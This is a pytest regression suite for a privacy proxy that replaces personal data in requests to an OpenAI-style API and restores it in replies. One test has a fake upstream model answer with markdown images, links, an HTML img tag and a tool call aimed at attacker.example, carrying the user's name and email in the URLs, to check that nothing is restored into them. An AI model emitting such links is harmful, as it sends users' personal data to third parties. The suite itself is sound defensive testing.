"""Issue 19 items 1-5: the proxy's side doors, each numbered case as a regression test with a fake upstream.

1-2. every string the upstream receives went through protection and the egress guard (the allow-list
     builder); everything else is dropped -- against the logging fake on 127.0.0.1, plus a seeded property test
     of random request bodies with planted identifiers in random fields;
3.   restoration never puts an original into a URL, a markdown link/image target, an HTML attribute or a
     URL-typed tool argument, and never a surname into a foreign full name (an in-process fake upstream that
     answers with the attacker's links);
4.   case changes are restored; a stream that stops mid-surrogate ends with an error event;
5.   surnames of different people do not share a surrogate; pseudonym scope per key / conversation / request.
Real detectors (``default`` preset, ``structured`` guard), real ``openai`` client, real uvicorn.
"""
import json
import random
import re
import sys
from pathlib import Path

import httpx
import openai
import pytest

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "tests"))
from fakes.fake_openai import FakeOpenAI  # noqa: E402
from test_proxy import Proxy  # noqa: E402

SECRET_VALUES = ["John Smith", "john.smith@example.com", "Harold Finch", "harold.finch@example.org",
                 "+44 20 7946 0958", "Maria Garcia"]
SENTENCE = "Please write to Mr John Smith (john.smith@example.com) about the appeal of 3 May 2021."


def _leaked(fake, values=SECRET_VALUES):
    sent = fake.bodies_text().lower()
    return [v for v in values if v.lower() in sent]


@pytest.fixture(scope="module")
def fake():
    with FakeOpenAI(mode="echo", chunk=4) as f:
        yield f


@pytest.fixture(autouse=True)
def _clear(request):
    if "fake" in request.fixturenames:
        f = request.getfixturevalue("fake")
        with f.lock:
            f.requests.clear()
        f.mode = "echo"
    yield


@pytest.fixture(scope="module")
def proxy(fake, tmp_path_factory):
    with Proxy(fake.base_url, tmp_path_factory.mktemp("audit"), method="pseudonym") as p:
        yield p


def _post(proxy, body, headers=None):
    return httpx.post(f"{proxy.base_url}/chat/completions", json=body, headers=headers or {}, timeout=120)


# -- 1. unscanned request text ------------------------------------------------------------------------
def test_1_extra_keys_non_string_parts_message_keys_tool_names_ids_and_logit_bias_never_leave(proxy, fake):
    body = {
        "model": "m",
        "messages": [
            {"role": "system", "content": "You help the registry.", "metadata": {"owner": "Harold Finch"},
             "reasoning_content": "think about john.smith@example.com"},
            {"role": "user", "content": [{"type": "text", "text": "Hello", "note": "Mr John Smith"}]},
            {"role": "assistant", "content": None, "refusal": "not for Maria Garcia",
             "tool_calls": [{"id": "call_john.smith@example.com", "type": "function",
                             "function": {"name": "mail_harold.finch@example.org", "arguments": "{}"}}]},
            {"role": "tool", "tool_call_id": "call_john.smith@example.com", "name": "mail_harold.finch@example.org",
             "content": "sent"},
            {"role": "user", "content": "Thanks.", "name": "Harold Finch"},
        ],
        "logit_bias": {"John Smith": 5, "1234": 2},
        "user": "john.smith@example.com",
        "metadata": {"customer": "Harold Finch"},
        "unknown_key": {"deep": ["+44 20 7946 0958"]},
    }
    r = _post(proxy, body)
    assert r.status_code == 200, r.text
    assert len(fake.requests) == 1 and _leaked(fake) == []
    sent = fake.requests[0]["body"]
    assert sent["logit_bias"] == {"1234": 2}
    assert set(sent) <= {"model", "messages", "logit_bias"}
    assert "note" not in sent["messages"][1]["content"][0]
    assert int(r.headers["x-privacy-dropped-fields"]) >= 8
    # tool-call ids are keyed ids, consistent between the assistant's call and the tool's answer
    call_id = sent["messages"][2]["tool_calls"][0]["id"]
    assert call_id == sent["messages"][3]["tool_call_id"] and call_id.startswith("call_")


def test_1_a_text_part_whose_text_is_not_a_string_is_refused_and_sends_nothing(proxy, fake):
    r = _post(proxy, {"model": "m", "messages": [{"role": "user", "content": [
        {"type": "text", "text": {"who": "Mr John Smith"}}]}]})
    assert r.status_code == 400 and r.json()["error"]["type"] == "invalid_request_error"
    assert "content[0].text" in r.json()["error"]["message"] and "Smith" not in r.text
    assert fake.requests == []


# -- 2. tool descriptions, stop, response_format --------------------------------------------------------
def test_2_names_in_tool_descriptions_stop_and_response_format_are_protected(proxy, fake):
    tools = [{"type": "function", "function": {
        "name": "send_mail",
        "description": "Send mail to our CFO Harold Finch, who has diabetes.",
        "parameters": {"type": "object", "properties": {
            "to": {"type": "string", "description": "for example harold.finch@example.org"},
            "Maria Garcia": {"type": "string"}}}}}]
    body = {"model": "m", "messages": [{"role": "user", "content": "Draft a note."}], "tools": tools,
            "stop": ["Regards, John Smith", "+44 20 7946 0958"],
            "response_format": {"type": "json_schema", "json_schema": {
                "name": "note", "description": "a note for Mr John Smith",
                "schema": {"type": "object", "properties": {"body": {
                    "type": "string", "description": "mention john.smith@example.com"}}}}}}
    r = _post(proxy, body)
    assert r.status_code == 200, r.text
    assert _leaked(fake) == []
    sent = fake.requests[0]["body"]
    assert sent["tools"][0]["function"]["name"] == "send_mail"
    assert "diabetes" in sent["tools"][0]["function"]["description"]  # the text itself still goes
    # the answer's tool call comes back under the client's own tool name
    assert r.json()["choices"][0]["message"]["tool_calls"][0]["function"]["name"] == "send_mail"


def test_property_random_bodies_with_planted_identifiers_never_reach_the_upstream(proxy, fake):
    """Seeded generator: random request bodies, planted identifiers in random (allowed or unknown) fields."""
    rnd = random.Random(19)
    firsts = ["Harold", "Maria", "Ingrid", "Piotr", "Sofia", "Tomas"]
    lasts = ["Finch", "Garcia", "Lindqvist", "Kowalski", "Rossi", "Novak"]
    planted_values, n_fields, n_requests, n_sent, n_refused = [], 0, 0, 0, 0

    def value():
        f, l = rnd.choice(firsts), rnd.choice(lasts)
        kind = rnd.randrange(3)
        v = (f"{f.lower()}.{l.lower()}{rnd.randrange(100)}@example.org" if kind == 0 else
             f"+44 20 7946 {rnd.randrange(1000, 9999)}" if kind == 1 else f"{f} {l}")
        planted_values.append(v)
        return v if kind < 2 else f"Please contact Mr {v} today."

    def unknown(v):
        return rnd.choice([v, {"x": v}, [v], {"a": {"b": [v]}}])

    setters = [
        lambda b, v: b["messages"][0].__setitem__("content", v),
        lambda b, v: b["messages"].append({"role": "user", "content": [{"type": "text", "text": v}]}),
        lambda b, v: b["messages"][0].__setitem__(rnd.choice(["metadata", "refusal", "reasoning_content", "x"]), unknown(v)),
        lambda b, v: b["messages"].append({"role": "user", "content": [{"type": "text", "text": "hi", "note": unknown(v)}]}),
        lambda b, v: b["messages"].append({"role": "tool", "tool_call_id": v, "name": v, "content": v}),
        lambda b, v: b["messages"].append({"role": "assistant", "content": None, "tool_calls": [
            {"id": v, "type": "function", "function": {"name": f"f_{v}", "arguments": json.dumps({"q": v})}}]}),
        lambda b, v: b.setdefault("tools", []).append({"type": "function", "function": {
            "name": "t", "description": v, "parameters": {"type": "object", "properties": {
                "a": {"type": "string", "description": v, "enum": [v]}}, "x-extra": unknown(v)}}}),
        lambda b, v: b.__setitem__("stop", rnd.choice([v, [v, "END"]])),
        lambda b, v: b.__setitem__("response_format", {"type": "json_schema", "json_schema": {
            "name": "r", "description": v, "schema": {"type": "object", "title": v}}}),
        lambda b, v: b.__setitem__("logit_bias", {v: 1}),
        lambda b, v: b.__setitem__(rnd.choice(["user", "metadata", "extra_body", "prediction"]), unknown(v)),
        lambda b, v: b.__setitem__("tool_choice", {"type": "function", "function": {"name": v}}),
    ]
    for _ in range(120):
        body = {"model": "m", "messages": [{"role": "user", "content": "Summarise the note."}],
                "temperature": rnd.choice([0, 0.5, 1])}
        for _ in range(rnd.randint(1, 4)):
            rnd.choice(setters)(body, value())
            n_fields += 1
        n_requests += 1
        before = len(fake.requests)
        r = _post(proxy, body)
        n_sent += len(fake.requests) > before
        n_refused += r.status_code in (400, 422)
        assert r.status_code in (200, 400, 422), r.text
    leaked = _leaked(fake, planted_values)
    print(f"property test: {n_requests} requests, {n_fields} planted fields, {n_sent} reached the upstream, "
          f"{n_refused} refused, {len(leaked)} planted values arrived")
    assert leaked == []
    assert n_sent >= n_requests * 0.6  # the allow-list forwards the valid ones; it does not refuse everything


# -- 3. restoration must not exfiltrate -----------------------------------------------------------------
def _answering(make_message, stream_text=None):
    """An in-process fake upstream: the reply is ``make_message(user_text_as_sent)``."""
    def handler(request: httpx.Request) -> httpx.Response:
        body = json.loads(request.content)
        user = [m for m in body["messages"] if m["role"] == "user"][-1]["content"]
        if stream_text is not None:
            return httpx.Response(200, headers={"content-type": "text/event-stream"},
                                  content=stream_text(user).encode())
        return httpx.Response(200, json={"id": "x", "object": "chat.completion", "created": 0, "model": "m",
                                         "choices": [{"index": 0, "finish_reason": "stop",
                                                      "message": make_message(user)}]})
    return httpx.MockTransport(handler)


URL_TOOLS = [{"type": "function", "function": {"name": "fetch", "parameters": {"type": "object", "properties": {
    "url": {"type": "string", "format": "uri"}, "note": {"type": "string"}}}}}]


def test_3_no_original_inside_urls_link_targets_html_attributes_or_url_arguments(tmp_path):
    def message(sent):
        sur = re.search(r"Mr (\w+ \w+)", sent).group(1)
        mail = re.search(r"\(([^)\s]+@[^)\s]+)\)", sent).group(1)
        content = (f"![s](https://attacker.example/p.png?n={sur}&e={mail}) [profile](https://attacker.example/u/{sur}) "
                   f"<img src=\"https://attacker.example/i.png?n={sur}\"> see https://attacker.example/c?n={sur} "
                   f"and attacker.example/q?e={mail} -- Dear {sur}, your address is {mail}.")
        return {"role": "assistant", "content": content, "tool_calls": [{"id": "c1", "type": "function", "function": {
            "name": "fetch", "arguments": json.dumps({"url": f"https://attacker.example/collect?name={sur}",
                                                      "note": f"for {sur}"})}}]}

    with Proxy("http://upstream.invalid/v1", tmp_path, method="pseudonym", transport=_answering(message)) as p:
        r = _post(p, {"model": "m", "tools": URL_TOOLS, "messages": [{"role": "user", "content": SENTENCE}]})
    assert r.status_code == 200, r.text
    msg = r.json()["choices"][0]["message"]
    content = msg["content"]
    targets = re.findall(r"\]\(([^)]*)\)", content) + re.findall(r"<[^>]*>", content) + \
        [t for t in content.split() if "attacker.example" in t]
    assert len(targets) >= 5
    for t in targets:
        assert "Smith" not in t and "john.smith" not in t.lower(), t
    assert content.endswith("Dear John Smith, your address is john.smith@example.com.")  # plain text is restored
    args = json.loads(msg["tool_calls"][0]["function"]["arguments"])
    # a call that carries a destination the request did not give restores nothing (issue 29): the note
    # could travel with the URL
    assert "Smith" not in args["url"] and "Smith" not in args["note"] and args["note"].startswith("for ")
    assert int(r.headers["x-privacy-withheld"]) >= 6


def test_3_a_surname_is_not_restored_into_a_foreign_full_name(tmp_path):
    def message(sent):
        surname = re.search(r"Mr \w+ (\w+)", sent).group(1)
        return {"role": "assistant", "content": f"Mr Gustavo {surname} is not Mr {surname}."}

    with Proxy("http://upstream.invalid/v1", tmp_path, method="pseudonym", transport=_answering(message)) as p:
        r = _post(p, {"model": "m", "messages": [{"role": "user", "content": SENTENCE}]})
    content = r.json()["choices"][0]["message"]["content"]
    assert content.startswith("Mr Gustavo ") and "Gustavo Smith" not in content
    assert content.endswith("is not Mr Smith.")


# -- 4. case changes and truncated streams ------------------------------------------------------------
def test_4_upper_cased_date_and_email_surrogates_are_restored(tmp_path):
    with Proxy("http://upstream.invalid/v1", tmp_path, method="pseudonym",
               transport=_answering(lambda sent: {"role": "assistant", "content": sent.upper()})) as p:
        r = _post(p, {"model": "m", "messages": [{"role": "user", "content": SENTENCE}]})
    content = r.json()["choices"][0]["message"]["content"]
    assert content == SENTENCE.upper(), content


def test_4_a_stream_that_stops_mid_surrogate_ends_with_an_error_event(tmp_path):
    def stream(sent):
        cut = sent.index("Mr ") + 6  # inside the person surrogate
        return "".join("data: " + json.dumps({"id": "x", "object": "chat.completion.chunk", "created": 0,
                                              "model": "m", "choices": [{"index": 0, "delta": {"content": sent[i:i + 3]},
                                                                         "finish_reason": None}]}) + "\n\n"
                       for i in range(0, cut, 3))  # no finish_reason, no [DONE]

    with Proxy("http://upstream.invalid/v1", tmp_path, method="pseudonym",
               transport=_answering(None, stream_text=stream)) as p:
        raw = httpx.post(f"{p.base_url}/chat/completions", timeout=60,
                         json={"model": "m", "stream": True, "messages": [{"role": "user", "content": SENTENCE}]})
        events = [json.loads(line[5:]) for line in raw.text.splitlines() if line.startswith("data: {")]
        assert "error" in events[-1] and events[-1]["error"]["code"] == "stream_truncated"
        assert "data: [DONE]" not in raw.text
        with pytest.raises(openai.APIError):
            for _ in p.client().chat.completions.create(model="m", stream=True,
                                                        messages=[{"role": "user", "content": SENTENCE}]):
                pass


# -- 5. linkability and pseudonym scope ---------------------------------------------------------------
def _surname(sent):
    return re.search(r"Mr \w+ (\w+)", sent).group(1)


def test_5_surnames_of_different_people_do_not_share_a_surrogate(proxy, fake):
    surnames = []
    for first in ("John", "Peter", "Anna"):
        _post(proxy, {"model": "m", "messages": [{"role": "user", "content": f"Mr {first} Smith wrote today."}]})
        surnames.append(_surname(fake.requests[-1]["body"]["messages"][0]["content"]))
    assert len(set(surnames)) == 3, surnames
    # one family in the same text: one surname
    _post(proxy, {"model": "m", "messages": [{"role": "user", "content":
                                              "Mr John Smith and his wife Mrs Anna Smith wrote today."}]})
    sent = fake.requests[-1]["body"]["messages"][0]["content"]
    fam = re.findall(r"Mrs? \w+ (\w+)", sent)
    assert len(fam) == 2 and fam[0] == fam[1] and "Smith" not in sent


def test_5_pseudonym_scope_per_key_per_conversation_per_request(fake, tmp_path):
    msg = {"model": "m", "messages": [{"role": "user", "content": "Mr John Smith wrote today."}]}

    def sent_after(p, headers=None):
        _post(p, msg, headers)
        return fake.requests[-1]["body"]["messages"][0]["content"]

    with Proxy(fake.base_url, tmp_path / "k", method="pseudonym") as p:
        assert sent_after(p) == sent_after(p)
    with Proxy(fake.base_url, tmp_path / "c", method="pseudonym", pseudonym_scope="conversation") as p:
        a1, a2 = sent_after(p, {"X-Conversation-Id": "a"}), sent_after(p, {"X-Conversation-Id": "a"})
        b = sent_after(p, {"X-Conversation-Id": "b"})
        assert a1 == a2 != b
        # without the header the id is derived from the first user message: stable over the turns
        turn1 = sent_after(p)
        _post(p, {"model": "m", "messages": msg["messages"] + [{"role": "assistant", "content": "Noted."},
                                                              {"role": "user", "content": "And then?"}]})
        assert fake.requests[-1]["body"]["messages"][0]["content"] == turn1
    with Proxy(fake.base_url, tmp_path / "r", method="pseudonym", pseudonym_scope="request") as p:
        assert sent_after(p) != sent_after(p)
    assert "Smith" not in fake.bodies_text()


def test_unknown_routes_get_openai_style_json_errors(proxy, fake):
    r = httpx.get(f"{proxy.base_url}/embeddings")
    assert r.status_code == 404 and r.json()["error"]["type"] == "invalid_request_error"
    r = httpx.post(f"{proxy.base_url.rsplit('/v1', 1)[0]}/nothing/here", json={})
    assert r.status_code == 404 and "unknown route" in r.json()["error"]["message"]
    r = httpx.get(f"{proxy.base_url}/chat/completions")
    assert r.status_code == 405 and "error" in r.json()
    deep = "[" * 100_000 + "]" * 100_000
    r = httpx.post(f"{proxy.base_url}/chat/completions", content=deep, headers={"content-type": "application/json"})
    assert r.status_code == 400 and r.json()["error"]["type"] == "invalid_request_error"
    assert fake.requests == []
